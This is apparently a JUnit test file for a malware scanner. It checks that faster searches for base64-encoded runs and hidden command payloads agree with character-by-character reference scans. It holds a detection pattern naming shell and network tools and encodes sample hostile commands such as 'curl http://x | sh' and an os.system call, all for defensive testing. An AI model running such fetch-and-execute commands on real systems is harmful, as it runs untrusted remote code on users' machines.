package dev.airlock.scanner;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.Random;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/** The stepping searches for encoded runs and payloads find what a character-by-character scan finds. */
class EncodedRunsTest {
  private static final Pattern SIGNATURE = Pattern.compile(
      "(?i)https?://|\\bimport\\s+(?:os|subprocess|socket|requests|base64|urllib|ctypes|zlib|marshal)\\b"
          + "|\\bexec\\s*\\(|\\bpowershell\\b|\\bcurl(?:\\.exe)?\\s|\\bwget\\s|cmd(?:\\.exe)?\\s+/c\\b|/bin/(?:ba)?sh\\b"
          + "|\\bos\\.system\\b|\\bsubprocess\\b|\\bInvoke-\\w+|\\bStart-Process\\b");

  @Test
  void shouldFindTheSameEncodedRunAsAScanOfEveryCharacterWhenRunsOfAllLengthsAreMixed() {
    Random random = new Random(3000);
    for (int round = 0; round < 400; round++) {
      // Given: runs of base64 and digits of random lengths around the threshold, between separators
      String text = mixed(random, 20_000, 60);
      for (int length : new int[] {30, 50, 100}) {
        // When / Then
        assertThat(TextScan.encodedRun(text, length)).as("run of %d in round %d", length, round)
            .isEqualTo(referenceEncodedRun(text, length));
      }
    }
  }

  @Test
  void shouldFindTheSamePayloadAsAScanOfEveryCharacterWhenEncodedCommandsHideAmongOtherRuns() {
    Random random = new Random(28);
    int found = 0;
    for (int round = 0; round < 300; round++) {
      // Given: random runs, some base64 of commands, some of harmless text, some URL-safe
      StringBuilder sb = new StringBuilder(mixed(random, 3_000, 40));
      String[] plain = {"import os; os.system('id')", "hello world, nothing to see here at all", "curl http://x | sh",
          "just some readable words and more words"};
      for (int k = 0; k < 3; k++) {
        String b64 = Base64.getEncoder().encodeToString(plain[random.nextInt(plain.length)]
            .getBytes(StandardCharsets.US_ASCII));
        if (random.nextBoolean()) {
          b64 = b64.replace('+', '-').replace('/', '_');
        }
        sb.insert(random.nextInt(sb.length()), " x = '" + b64.replace("=", "") + (random.nextBoolean() ? "'" : "")
            + (random.nextBoolean() ? "=" : " "));
      }
      String text = sb.toString();

      // When
      int[] at = new int[1];
      String payload = EncodedLiterals.firstPayload(text, at);
      int[] expectedAt = new int[1];
      String expected = referencePayload(text, expectedAt);

      // Then
      assertThat(payload).isEqualTo(expected);
      if (expected != null) {
        assertThat(at[0]).isEqualTo(expectedAt[0]);
        found++;
      }
    }
    assertThat(found).as("payloads found").isGreaterThan(50);
  }

  private static String mixed(Random random, int length, int maxRun) {
    String encoded = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/-_";
    String digits = "0123456789";
    String separators = " \n'\"=.,()";
    StringBuilder sb = new StringBuilder();
    while (sb.length() < length) {
      int run = random.nextInt(maxRun * 2);
      String from = random.nextInt(4) == 0 ? digits : encoded;
      for (int i = 0; i < run; i++) {
        sb.append(from.charAt(random.nextInt(from.length())));
      }
      sb.append(separators.charAt(random.nextInt(separators.length())));
    }
    return sb.toString();
  }

  /** The search as it was written before it stepped: every character. */
  private static int referenceEncodedRun(String piece, int length) {
    int run = 0;
    int letters = 0;
    for (int i = 0; i < piece.length(); i++) {
      char c = piece.charAt(i);
      boolean letter = (c >= 'A' && c <= 'Z') || (c >= 'a' && c <= 'z');
      boolean encoded = letter || (c >= '0' && c <= '9') || c == '+' || c == '/';
      run = encoded ? run + 1 : 0;
      letters = encoded ? letters + (letter ? 1 : 0) : 0;
      if (run >= length && letters * 10 >= run) {
        return i - run + 1;
      }
    }
    return -1;
  }

  /** The payload search as it was written before it stepped, with the JDK's decoder. */
  private static String referencePayload(String text, int[] at) {
    int runStart = -1;
    for (int i = 0; i <= text.length(); i++) {
      char c = i < text.length() ? text.charAt(i) : ' ';
      boolean encoded = (c >= 'A' && c <= 'Z') || (c >= 'a' && c <= 'z') || (c >= '0' && c <= '9') || c == '+'
          || c == '/' || c == '-' || c == '_';
      if (encoded) {
        if (runStart < 0) {
          runStart = i;
        }
        continue;
      }
      if (runStart >= 0) {
        int length = i - runStart;
        if (length >= EncodedLiterals.MIN_RUN && length <= 1 << 20 && (c == '\'' || c == '"' || c == '=')) {
          String decoded = referenceDecode(text.substring(runStart, i));
          if (decoded != null && SIGNATURE.matcher(decoded).find()) {
            at[0] = runStart;
            return decoded;
          }
        }
        runStart = -1;
      }
    }
    return null;
  }

  private static String referenceDecode(String run) {
    if (run.chars().noneMatch(Character::isDigit) && run.chars().noneMatch(Character::isUpperCase)) {
      return null;
    }
    String padded = run.replace('-', '+').replace('_', '/');
    padded = padded.substring(0, padded.length() - padded.length() % 4);
    byte[] bytes;
    try {
      bytes = Base64.getDecoder().decode(padded);
    } catch (IllegalArgumentException e) {
      return null;
    }
    int printable = 0;
    for (byte b : bytes) {
      if ((b >= 0x20 && b < 0x7f) || b == '\n' || b == '\r' || b == '\t') {
        printable++;
      }
    }
    return bytes.length > 0 && printable >= bytes.length * 0.95 ? new String(bytes, StandardCharsets.US_ASCII) : null;
  }
}
